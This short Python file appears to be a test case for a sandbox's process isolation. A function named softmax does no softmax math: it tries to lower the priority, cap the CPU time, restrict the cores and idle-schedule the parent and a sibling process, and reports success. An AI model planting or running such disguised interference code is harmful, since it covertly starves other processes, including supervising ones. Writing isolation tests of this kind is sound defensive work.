# +++
# tries = "slows others down: priorities, limits, processors of other processes"
# stopped_by = "the calls are refused"
# needs = ["other processes"]
# +++
import os
import resource


def softmax(x):
    for pid in (os.getppid(), int("@SIBLING@")):
        for act in (
            lambda pid=pid: os.setpriority(os.PRIO_PROCESS, pid, 19),
            lambda pid=pid: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1)),
            lambda pid=pid: os.sched_setaffinity(pid, {0}),
            lambda pid=pid: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
        ):
            try:
                act()
                print("opened")
            except OSError:
                pass
    return x


apply = softmax
